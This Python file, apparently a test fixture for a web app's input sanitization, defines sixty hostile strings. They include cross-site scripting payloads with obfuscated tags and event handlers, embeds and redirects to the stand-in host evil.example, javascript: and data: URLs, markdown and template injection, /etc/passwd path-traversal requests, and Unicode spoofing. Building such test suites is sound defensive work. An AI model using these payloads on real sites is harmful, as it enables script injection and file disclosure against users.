"""Sixty strings that an article, a file name or a question may hold to make a page run, fetch, open or hide something.

Where one of them is obeyed, ``window.pwned`` is set, or ``evil.example`` is asked for something.
"""

RUN = "window.pwned=1"
ELSEWHERE = "https://evil.example/x"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<script type=module>import('{ELSEWHERE}.js')</script>",
    f"</script><script>{RUN}</script>",
    f"<<script>{RUN};//<</script>",
    f"<script\x0c>{RUN}</script>",
    f"</textarea></title></style></noscript></template><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"]]><script>{RUN}</script>",
)
HANDLERS = (
    f'<img src=x onerror="{RUN}">',
    f"<img src=x:x onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"`onmouseover={RUN}`",
)
EMBEDS = (
    f"<iframe src={ELSEWHERE}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<img src={ELSEWHERE}.png>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><input name=q><button>send</button></form>",
    f"<svg><use href={ELSEWHERE}.svg#a></use><image href={ELSEWHERE}.png /></svg>",
    f"<math><mtext></p><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'></math>",
    f"<picture><source srcset={ELSEWHERE}.webp><img></picture>",
    f"<audio src={ELSEWHERE}.mp3 autoplay></audio>",
)
MARKDOWN = (
    f"![a picture]({ELSEWHERE}.png)",
    f"[a link](javascript:{RUN})",
    f"[a link]({ELSEWHERE})",
    f"<javascript:{RUN}>",
    f"[x]: {ELSEWHERE}\n![x]",
    "# A heading\n* a list\n> a quote\n---\n```js\ncode\n```",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"<{ELSEWHERE}>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://example.org",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "/gradio_api/file=/etc/passwd",
    f"/gradio_api/file={ELSEWHERE}",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
)
TEMPLATES = (
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "{@html '<img src=x onerror=window.pwned=1>'} {#if 1}x{/if}",
    "{{ 7*7 }} {% include '/etc/passwd' %} {{ config.__class__ }}",
    "%(pwned)s {0.__class__} %n%n%n",
)
UNICODE = (
    "\u202egnp.exe\u202c reversed \u2066isolated\u2069",
    "z\u0336\u0321\u034f\u0489a\u0337\u0322l\u0338\u0327g\u0335\u0328o\u0334",
    "zero\u200bwidth\u2060joined\ufeff and \u00adsoft",
    "</style><style>*{display:none!important;background:url(https://evil.example/x.png)}</style>",
)
HOSTILE = (*SCRIPTS, *HANDLERS, *EMBEDS, *MARKDOWN, *ADDRESSES, *TEMPLATES, *UNICODE)
HUGE = "<b onclick=window.pwned=1>" + "A" * 5_000
"""One more, longer than a question may be."""
assert len(set(HOSTILE)) == 60, len(set(HOSTILE))
